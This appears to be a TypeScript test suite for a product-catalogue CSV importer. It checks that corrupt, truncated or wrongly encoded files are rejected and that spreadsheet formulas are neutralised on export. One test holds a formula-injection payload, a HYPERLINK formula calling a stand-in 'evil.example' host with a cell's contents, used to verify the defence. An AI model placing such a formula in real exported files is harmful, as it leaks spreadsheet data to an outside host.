import { onEveryDialect } from '../../../testing/onEveryDialect.ts';
import { openFileBench } from '../../../testing/openFileBench.ts';
import { readEverything } from '../../../testing/readEverything.ts';
import { sizeRow, tableFile, tiendanubeRow } from '../../../testing/data/tableFile.ts';

const WHOLE = tableFile([
  tiendanubeRow('gorra', { Descripción: 'Ñandú “fino”, 100 %' }),
  sizeRow('remera', ['Rojo', 'M'], { Descripción: 'Dos\nlíneas' }),
]);

onEveryDialect('files that are no catalogue, or not all of one', (database) => {
  const bench = openFileBench();

  it.each<[string, Uint8Array | string, RegExp]>([
    ['nothing', '', /^El archivo está vacío\.$/],
    ['empty lines', '\n\n\n', /^El archivo no tiene filas\.$/],
    ['a letter', 'Estimados:\n\nles escribo\n', /Tiendanube ni las de Shopify: «Estimados:»\.$/],
    ['a spreadsheet', 'PK\u0003\u0004 xl/workbook.xml', /guardalo como CSV\.$/],
    ['a picture', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), /no es de texto/],
    ['zeros among the text', WHOLE.replace('gorra', 'go\u0000rra'), /no es de texto/],
    ['UTF-16', Buffer.from(`\ufeff${WHOLE}`, 'utf16le'), /está en UTF-16: guardalo en UTF-8\.$/],
    ['UTF-16 of Macs', Buffer.from(`\ufeff${WHOLE}`, 'utf16le').swap16(), /está en UTF-16/],
    ['another encoding', Buffer.from([0x4e, 0xf1, 0x81]), /no está en UTF-8 ni/],
    [
      'a cut within quotes',
      WHOLE.slice(0, WHOLE.indexOf('líneas')),
      /se abren comillas que no se cierran/,
    ],
    [
      'a cut within a row',
      WHOLE.slice(0, WHOLE.indexOf('remera;') + 7),
      /termina en medio de la línea 3/,
    ],
    [
      'a cut within a letter',
      Buffer.from(WHOLE).subarray(0, Buffer.from(WHOLE).indexOf('ú') + 1),
      /termina en medio de una letra/,
    ],
    [
      'a column twice',
      WHOLE.replace('Nombre', 'Precio'),
      /«Precio» está dos veces en la primera línea/,
    ],
    [
      'a row without end',
      `${WHOLE}"${'x'.repeat(1_200_000)}`,
      /más larga de lo que puede ser una fila/,
    ],
  ])('%s', async (_what, bytes, reason) => {
    const before = await readEverything(database());
    await expect(bench.importFile(database(), bytes)).rejects.toThrow(reason);
    await expect(bench.importFile(database(), bytes)).rejects.not.toThrow(/\n/);
    expect(await readEverything(database())).toEqual(before);
  });

  it('the intact file is imported', async () => {
    expect(await bench.importFile(database(), WHOLE)).toMatchObject({ created: 2, refused: 0 });
  });

  it('a header alone is a catalogue without products', async () => {
    const [header = ''] = WHOLE.split('\n');
    expect(await bench.importFile(database(), header)).toMatchObject({ rows: 0, created: 0 });
  });

  it('formulas are imported as text, and neutralised in exports', async () => {
    const formula = '=HYPERLINK("http://evil.example/"&A1)';
    await bench.importFile(
      database(),
      tableFile([tiendanubeRow('formula', { Nombre: formula, Tags: '@SUM(1+1)', SKU: '+1' })]),
    );
    const file = await bench.exportFile(database(), 'tiendanube');
    expect(file).toContain(`"'=HYPERLINK(""http://evil.example/""&A1)"`);
    expect(file).not.toMatch(/(^|[;\n"])[=+\-@]/);
    expect(await bench.importFile(database(), file)).toMatchObject({ created: 0, updated: 0 });
  });

  it('a wrong format is reported with the missing columns', async () => {
    await expect(bench.importFile(database(), WHOLE, { format: 'shopify' })).rejects.toThrow(
      'Un archivo de Shopify necesita la columna «Handle», «Title», «Variant Price».',
    );
  });
});
